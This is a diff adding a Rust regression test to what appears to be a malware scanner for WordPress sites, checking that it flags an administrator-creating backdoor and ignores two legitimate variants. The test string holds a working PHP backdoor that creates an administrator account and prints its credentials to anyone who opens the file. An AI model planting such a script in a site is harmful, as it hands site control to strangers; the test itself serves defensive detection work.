@@ -1638,4 +1638,21 @@ mod tests {
             assert!(whys("x.php", src).is_empty(), "{src}: {:?}", whys("x.php", src));
         }
     }
+
+    #[test]
+    fn an_administrator_made_for_whoever_opens_the_script_is_a_backdoor() {
+        // Regression: fresh87's `wp-links.php` loads WordPress and makes an administrator with a
+        // random name and password, printed to whoever opens it.
+        let maker = "<?php require_once('wp-blog-header.php');\n\
+            $u = substr(md5(rand()), 0, 8); $p = substr(md5(rand()), 0, 8);\n\
+            if (!username_exists($u)) { $id = wp_create_user($u, $p, $u . '@x.invalid');\n\
+            $o = new WP_User($id); $o->set_role('administrator'); echo $u . ' ' . $p; }";
+        assert_eq!(whys("wp-links.php", maker), [Why::AdminBackdoor]);
+        // Behind the administrator's own check, or in a function the plugin calls.
+        let checked =
+            maker.replace("if (!username_exists($u))", "if (current_user_can('create_users') && !username_exists($u))");
+        assert!(whys("tools.php", &checked).is_empty(), "{:?}", whys("tools.php", &checked));
+        let plugin = "<?php require_once('wp-load.php'); function my_setup() { $id = wp_insert_user(['user_login' => 'shop', 'role' => 'administrator']); }";
+        assert!(whys("setup.php", plugin).is_empty());
+    }
 }
